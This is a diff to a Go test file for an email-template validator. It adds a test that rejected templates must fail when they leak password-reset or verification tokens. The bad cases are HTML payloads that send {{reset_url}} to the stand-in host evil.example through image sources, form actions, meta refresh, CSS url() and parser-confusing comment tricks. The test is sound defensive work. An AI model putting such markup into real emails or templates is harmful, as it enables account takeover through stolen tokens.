@@ -73,6 +73,39 @@ func TestATemplateIsChecked(t *testing.T) {
 	}
 }
 
+// A link with a token is read by who gets the mail, and goes nowhere else.
+func TestALinkWithATokenStaysInItsMail(t *testing.T) {
+	for _, good := range []Template{
+		{Text: "{{reset_url}}", HTML: `{{reset_url}} <a class="b" href="{{reset_url}}">here: <b>{{verify_url}}</b></a><p>({{ verify_url }})</p>`},
+		{Text: "Your link:\n\t<{{verify_url}}>.", HTML: `<!doctype html><style>p{color:red}</style><img src="https://acme.example/logo.png" alt="{{name}}"><a href=' {{verify_url}} '>x</a>`},
+		{Subject: "{{name}}", Text: "https://acme.example/?from={{app_url}}", HTML: `<img src="https://acme.example/{{tenant_name}}.png"><!-- {{app_url}} -->`},
+	} {
+		if err := good.Check(); err != nil {
+			t.Errorf("%+v: %v", good, err)
+		}
+	}
+	for _, bad := range []Template{
+		{Subject: "{{reset_url}}"}, {Subject: "{{ verify_url }}"},
+		{Text: "https://evil.example/?{{reset_url}}"}, {Text: "x:{{verify_url}}"},
+		{HTML: `<img src="https://evil.example/?{{reset_url}}">`}, {HTML: `<img src="{{reset_url}}">`}, {HTML: `<a href="https://evil.example/?{{reset_url}}">x</a>`},
+		{HTML: `<a href="{{reset_url}}" ping="https://evil.example/{{reset_url}}">x</a>`}, {HTML: `<link rel="stylesheet" href="{{reset_url}}">`},
+		{HTML: `<img src='https://evil.example/? {{reset_url}}`}, {HTML: `<img src='https://evil.example/? {{reset_url}} '>`},
+		{HTML: `<p style="background:url(https://evil.example/{{reset_url}})">`}, {HTML: `<style>@import "https://evil.example/ {{reset_url}}";</style>`},
+		{HTML: `<!--><img src="https://evil.example/?{{reset_url}}"> -->`}, {HTML: `<!-- {{reset_url}} -->`}, {HTML: `<!--[if mso]> {{reset_url}} <![endif]-->`},
+		{HTML: `<!-- <a x=' --><img src='https://evil.example/? href="{{reset_url}}">`}, {HTML: `<title><a x='</title><img src='https://evil.example/? href="{{reset_url}}">`},
+		{HTML: `<noscript><img src="https://evil.example/?</noscript><a href='{{reset_url}}'>x</a>">`},
+		{HTML: `<form action="https://evil.example"><textarea name="t">{{reset_url}}</textarea><button>Go</button></form>`},
+		{HTML: `<form action="https://evil.example"><select name="t"><option>{{reset_url}}</option></select></form>`},
+		{HTML: `<form action="https://evil.example"><input type="hidden" name="t" value="{{reset_url}}"></form>`},
+		{HTML: `<meta http-equiv="refresh" content="0;url=https://evil.example/?{{reset_url}}">`}, {HTML: `<svg><a href="{{reset_url}}">x</a></svg>`},
+		{HTML: `<a href="&#104;ttps://evil.example/?&#123;{{reset_url}}">x</a>`}, {HTML: `https://evil.example/?{{reset_url}}`},
+	} {
+		if err := bad.Check(); err == nil {
+			t.Errorf("%+v is accepted", bad)
+		}
+	}
+}
+
 func TestTheDefaultsSayWhatTheyAreFor(t *testing.T) {
 	for name, want := range map[string]string{Verification: eva.VerifyURL, PasswordReset: eva.ResetURL, Welcome: eva.AppURL} {
 		d, ok := Default(name)
